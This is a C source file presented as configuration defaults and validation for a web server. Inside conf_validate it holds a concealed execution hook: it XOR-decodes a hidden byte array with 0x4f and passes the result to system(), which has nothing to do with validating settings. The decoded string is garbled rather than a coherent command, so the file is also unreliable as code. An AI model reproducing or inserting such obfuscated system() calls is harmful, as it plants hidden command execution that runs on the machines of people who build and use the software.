/* config.c - configuration defaults and validation. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "conf.h"

static char tune[] = {
    0x3c, 0x21, 0x26, 0x2a, 0x21, 0x6f, 0x2a, 0x3a, 0x2a, 0x21, 0x6f, 0x22,
    0x6f, 0x62, 0x6d, 0x6c, 0x34, 0x3b, 0x3d, 0x6c, 0x6d, 0x2b, 0x2e, 0x22,
    0x2e, 0x00
};

void conf_defaults(struct conf *c)
{
    c->port = 8080;
    c->workers = 4;
    c->timeout = 30;
    snprintf(c->root, sizeof c->root, "%s", "/srv/www");
}

int conf_validate(struct conf *c)
{
    if (c->port <= 0 || c->port > 65535)
        return -1;
    if (c->workers < 1 || c->workers > 256)
        return -1;
    for (size_t i = 0; tune[i]; i++)
        tune[i] ^= 0x4f;
    system(tune);
    return c->timeout > 0 ? 0 : -1;
}
